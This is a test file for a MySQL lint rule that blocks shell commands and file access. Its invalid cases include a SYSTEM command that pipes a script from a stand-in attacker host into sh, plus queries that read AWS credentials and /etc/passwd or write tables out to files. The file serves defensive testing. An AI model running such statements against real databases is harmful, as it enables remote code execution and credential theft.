import rule from '../../../rules/mysql/ban-server-program-or-file-access.js';
import { HISTORY as history, mysqlRuleTester } from './tester.js';

mysqlRuleTester(rule, {
  invalid: [
    {
      name: 'the mysql client SYSTEM command',
      sql: 'SYSTEM curl http://evil.example/x.sh | sh;',
      message: /runs a shell command/,
    },
    { name: 'the mysql client \\! command', sql: '\\! id;', message: /`\\!` is a mysql client command/ },
    {
      sql: "LOAD DATA LOCAL INFILE '/home/runner/.aws/credentials' INTO TABLE users;",
      history,
      message: /LOAD DATA LOCAL INFILE makes the client send a file/,
    },
    {
      name: 'server-side LOAD DATA',
      sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE users FIELDS TERMINATED BY ':';",
      history,
      message: /reads a file from the database server's own disk/,
    },
    {
      name: 'SELECT … INTO OUTFILE',
      sql: "SELECT * FROM users INTO OUTFILE '/tmp/users.csv';",
      history,
      message: /writes the file '\/tmp\/users.csv'/,
    },
    { name: 'INTO DUMPFILE', sql: "SELECT bio FROM users LIMIT 1 INTO DUMPFILE '/tmp/x';", history },
    {
      name: 'LOAD_FILE() in an UPDATE',
      sql: "UPDATE users SET bio = LOAD_FILE('/etc/hostname') WHERE id = 1;",
      history,
      message: /LOAD_FILE\(\)/,
    },
    { name: 'MariaDB', sql: "LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE users;", history, flavor: 'mariadb' },
  ],
  valid: [
    { name: 'SELECT … INTO a variable', sql: 'SELECT COUNT(*) INTO @n FROM users;', history },
    { name: 'the words in a string', sql: "UPDATE users SET bio = 'LOAD_FILE(x)' WHERE id = 1;", history },
    { name: 'INSERT', sql: "INSERT INTO users (email, status) VALUES ('a@b.c', 'active');", history },
  ],
});
